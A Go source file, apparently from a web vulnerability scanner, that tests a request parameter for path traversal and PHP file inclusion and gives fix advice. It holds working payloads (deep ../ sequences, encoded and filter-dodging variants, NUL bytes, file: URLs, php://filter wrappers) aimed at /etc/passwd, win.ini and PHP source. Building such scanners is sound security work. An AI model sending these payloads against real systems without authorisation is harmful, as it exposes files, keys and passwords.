package active

import (
	"context"
	"encoding/base64"
	"fmt"
	"regexp"
	"strings"
)

var traversalInfo = map[string]Info{
	"traversal": {
		Title:    "Path traversal",
		Severity: "high",
		CWE:      22,
		OWASP:    "A01:2021-Broken Access Control",
		Description: "A path in the parameter made the server return the contents of a system file " +
			"(/etc/passwd or win.ini) that the original response does not show, while the same path to a " +
			"file that does not exist returned nothing of it. An attacker can read any file the application " +
			"can: source code, configuration, keys and passwords.",
		Fix: "Do not build file paths from input. Map the input to a fixed list of files, or take only a " +
			"base name, join it to the directory, resolve the result and check that it is still inside " +
			"that directory.",
		References: []string{
			"https://owasp.org/www-community/attacks/Path_Traversal",
			"https://cheatsheetseries.owasp.org/cheatsheets/Input_Validation_Cheat_Sheet.html",
			"https://cwe.mitre.org/data/definitions/22.html",
		},
	},
	"inclusion": {
		Title:    "File inclusion (PHP)",
		Severity: "high",
		CWE:      98,
		OWASP:    "A03:2021-Injection",
		Description: "A php://filter URL in the parameter made the server include a file through a PHP stream " +
			"wrapper and return it base64-encoded: the parameter goes to include, require or a file " +
			"function unchecked. An attacker can read the application's source and, with other wrappers " +
			"or uploaded files, run code.",
		Fix: "Do not pass input to include, require or file functions. Map the input to a fixed list of " +
			"files, and set allow_url_include=Off.",
		References: []string{
			"https://owasp.org/www-project-web-security-testing-guide/latest/4-Web_Application_Security_Testing/07-Input_Validation_Testing/11.1-Testing_for_Local_File_Inclusion",
			"https://cwe.mitre.org/data/definitions/98.html",
		},
	},
}

// Signatures of the files traversal reads.
var (
	travPasswdRE = regexp.MustCompile(`\broot:[x*!]?:0:0:`)
	travWinINIRE = regexp.MustCompile(`(?i)\[fonts\][\s\S]{0,200}\[extensions\]|for 16-bit app support`)
	// travBase64RE finds base64 runs long enough to hold a file's start.
	travBase64RE = regexp.MustCompile(`[A-Za-z0-9+/]{24,}={0,2}`)
)

// Kinds of evidence.
const (
	travUsers     = "the /etc/passwd root entry"
	travWinINI    = "the sections of win.ini"
	travUsers64   = "/etc/passwd, base64-encoded"
	travPHPSource = "PHP source code, base64-encoded"
)

// maxTravScan bounds the part of a body searched, and maxTravRuns the
// base64 runs decoded.
const (
	maxTravScan = 1 << 20
	maxTravRuns = 64
)

// travEvidence returns what file content body shows (one of the kinds
// above, or "") and the text to centre an excerpt on.
func travEvidence(body []byte) (kind, mark string) {
	if len(body) > maxTravScan {
		body = body[:maxTravScan]
	}
	if m := travPasswdRE.Find(body); m != nil {
		return travUsers, string(m)
	}
	if m := travWinINIRE.Find(body); m != nil {
		return travWinINI, string(m[:min(len(m), 24)])
	}
	for i, run := range travBase64RE.FindAll(body, -1) {
		if i >= maxTravRuns {
			break
		}
		dec, err := base64.StdEncoding.DecodeString(string(run[:len(run)/4*4]))
		if err != nil {
			continue
		}
		switch {
		case travPasswdRE.Match(dec):
			return travUsers64, string(run[:min(len(run), 32)])
		case strings.Contains(string(dec), "<?php") || strings.HasPrefix(string(dec), "<?="):
			return travPHPSource, string(run[:min(len(run), 32)])
		}
	}
	return "", ""
}

// travPayload builds a payload that reads file, a path from the root
// with / separators ("etc/passwd").
type travPayload struct {
	name  string
	build func(file string) string
}

// travDepth is how many ../ the deep payloads climb: more than any
// document root is deep, and harmless at the root where .. stays put.
const travDepth = 10

func travUp(up string, n int, file string) string {
	return strings.Repeat(up, n) + file
}

func travBackslash(file string) string { return strings.ReplaceAll(file, "/", `\`) }

var travPayloads = []travPayload{
	{"../ sequences", func(f string) string { return travUp("../", travDepth, f) }},
	{"absolute path", func(f string) string { return "/" + f }},
	{"../ with a NUL byte to cut a suffix", func(f string) string { return travUp("../", travDepth, f) + "\x00" }},
	{"....// (../ removed once)", func(f string) string { return travUp("....//", travDepth, f) }},
	{"../ URL-encoded twice", func(f string) string { return travUp("..%2f", travDepth, f) }},
	{`..\ sequences`, func(f string) string { return travUp(`..\`, travDepth, travBackslash(f)) }},
	{"php://filter", func(f string) string { return "php://filter/convert.base64-encode/resource=/" + f }},
}

// travFilePayloads are tried too when the value looks like a file.
var travFilePayloads = []travPayload{
	{"file: URL", func(f string) string { return "file:///" + f }},
	{"drive path", func(f string) string { return `C:\` + travBackslash(f) }},
	{"../ encoded as %2e%2e%2f, twice", func(f string) string { return travUp("%2e%2e%2f", travDepth, f) }},
}

// travTarget is a file to read, an equivalent path (which must show it
// too) and the same name in a directory that does not exist (which must
// not: a page that shows the file's text whenever its name is asked
// for, as a search of documentation does, is not reading the file).
type travTarget struct {
	file, same, missing string
	windows             bool
}

func travTargets(opt Options) []travTarget {
	w := "rmp" + opt.randWord(8)
	return []travTarget{
		{"etc/passwd", "etc/./passwd", "etc/" + w + "/passwd", false},
		{"windows/win.ini", "windows/./win.ini", "windows/" + w + "/win.ini", true},
	}
}

// travFileish says a point probably names a file or page.
func travFileish(p Point) bool {
	v := strings.ToLower(p.Value)
	if strings.ContainsAny(v, "./\\") {
		return true
	}
	n := strings.ToLower(p.Name)
	for _, w := range []string{"file", "page", "path", "dir", "folder", "doc", "template", "include", "inc", "load", "read", "download", "view", "lang", "style", "img", "image", "src", "url"} {
		if strings.Contains(n, w) {
			return true
		}
	}
	return false
}

// Traversal tests one point for path traversal and file inclusion: it
// sends paths to /etc/passwd and win.ini (../ sequences ten deep, plain,
// encoded and filter-dodging, absolute paths, a NUL byte, php://filter;
// file: URLs and drive paths where the value looks like a file; every
// depth from 1 at LevelFull) and reports a response showing the file's
// signature that the original response does not, when the same path to a
// missing file shows nothing of it. It is confirmed when an equivalent
// path (etc/./passwd) shows it too. For a value that looks like a PHP
// page it also asks php://filter for the page's own source. It returns at
// most one Result.
func Traversal(ctx context.Context, s Sender, p Point, opt Options) ([]Result, error) {
	_, orig, err := send(ctx, s, p, p.Value)
	if err != nil {
		return nil, err
	}
	origKind, _ := travEvidence(orig.Body)
	payloads := travPayloads
	fileish := travFileish(p)
	if fileish {
		payloads = append(append([]travPayload(nil), payloads...), travFilePayloads...)
		if i := strings.LastIndexAny(p.Value, `/\`); i > 0 {
			dir := p.Value[:i+1]
			payloads = append(payloads, travPayload{"../ after the original directory", func(f string) string {
				return dir + travUp("../", travDepth, f)
			}})
		}
	}
	if opt.Level >= LevelFull {
		for n := 1; n < travDepth; n++ {
			payloads = append(payloads, travPayload{fmt.Sprintf("../ sequences, %d deep", n), func(f string) string { return travUp("../", n, f) }})
		}
	}
	for _, t := range travTargets(opt) {
		for _, pl := range payloads {
			if t.windows && pl.name == "php://filter" {
				continue
			}
			r, err := travTry(ctx, s, p, pl, t, origKind)
			if err != nil || r != nil {
				return injOne(r), err
			}
		}
	}
	if fileish && origKind != travPHPSource {
		r, err := travSource(ctx, s, p, opt)
		return injOne(r), err
	}
	return nil, nil
}

// travTry sends one payload for one target and confirms what it shows.
func travTry(ctx context.Context, s Sender, p Point, pl travPayload, t travTarget, origKind string) (*Result, error) {
	payload := pl.build(t.file)
	_, r, err := send(ctx, s, p, payload)
	if err != nil {
		return nil, ctx.Err()
	}
	kind, mark := travEvidence(r.Body)
	if kind == "" || kind == origKind || kind == travPHPSource {
		return nil, nil
	}
	_, miss, err := send(ctx, s, p, pl.build(t.missing))
	if err != nil {
		return nil, ctx.Err()
	}
	if k, _ := travEvidence(miss.Body); k == kind {
		return nil, nil // the page shows it whatever file is asked for
	}
	_, same, err := send(ctx, s, p, pl.build(t.same))
	if err != nil && ctx.Err() != nil {
		return nil, ctx.Err()
	}
	confirmed := err == nil && func() bool { k, _ := travEvidence(same.Body); return k == kind }()
	check := "traversal"
	if kind == travUsers64 {
		check = "inclusion"
	}
	detail := fmt.Sprintf("%s: the response shows %s, which the original response does not, and the path to a missing file (%s) does not", pl.name, kind, t.missing)
	if confirmed {
		detail += fmt.Sprintf("; %s shows it too", t.same)
	}
	return &Result{
		Check: check, Point: p, Payload: payload, Confirmed: confirmed, Detail: detail,
		Request:  requestExcerpt(p, payload),
		Response: responseExcerpt(r, mark),
	}, nil
}

// travSource asks php://filter for the page the value names, as an
// include of "page" or "page.php" would take it.
func travSource(ctx context.Context, s Sender, p Point, opt Options) (*Result, error) {
	payload := "php://filter/convert.base64-encode/resource=" + p.Value
	_, r, err := send(ctx, s, p, payload)
	if err != nil {
		return nil, ctx.Err()
	}
	kind, mark := travEvidence(r.Body)
	if kind != travPHPSource {
		return nil, nil
	}
	missing := "php://filter/convert.base64-encode/resource=rmp" + opt.randWord(8) + "/" + p.Value
	_, miss, err := send(ctx, s, p, missing)
	if err != nil {
		return nil, ctx.Err()
	}
	if k, _ := travEvidence(miss.Body); k == kind {
		return nil, nil
	}
	same := "php://filter/read=convert.base64-encode/resource=" + p.Value
	_, r2, err := send(ctx, s, p, same)
	if err != nil && ctx.Err() != nil {
		return nil, ctx.Err()
	}
	confirmed := err == nil && func() bool { k, _ := travEvidence(r2.Body); return k == kind }()
	detail := fmt.Sprintf("php://filter returned %s of %q, which a missing file does not", kind, p.Value)
	if confirmed {
		detail += "; the read= form of the filter returned it too"
	}
	return &Result{
		Check: "inclusion", Point: p, Payload: payload, Confirmed: confirmed, Detail: detail,
		Request:  requestExcerpt(p, payload),
		Response: responseExcerpt(r, mark),
	}, nil
}
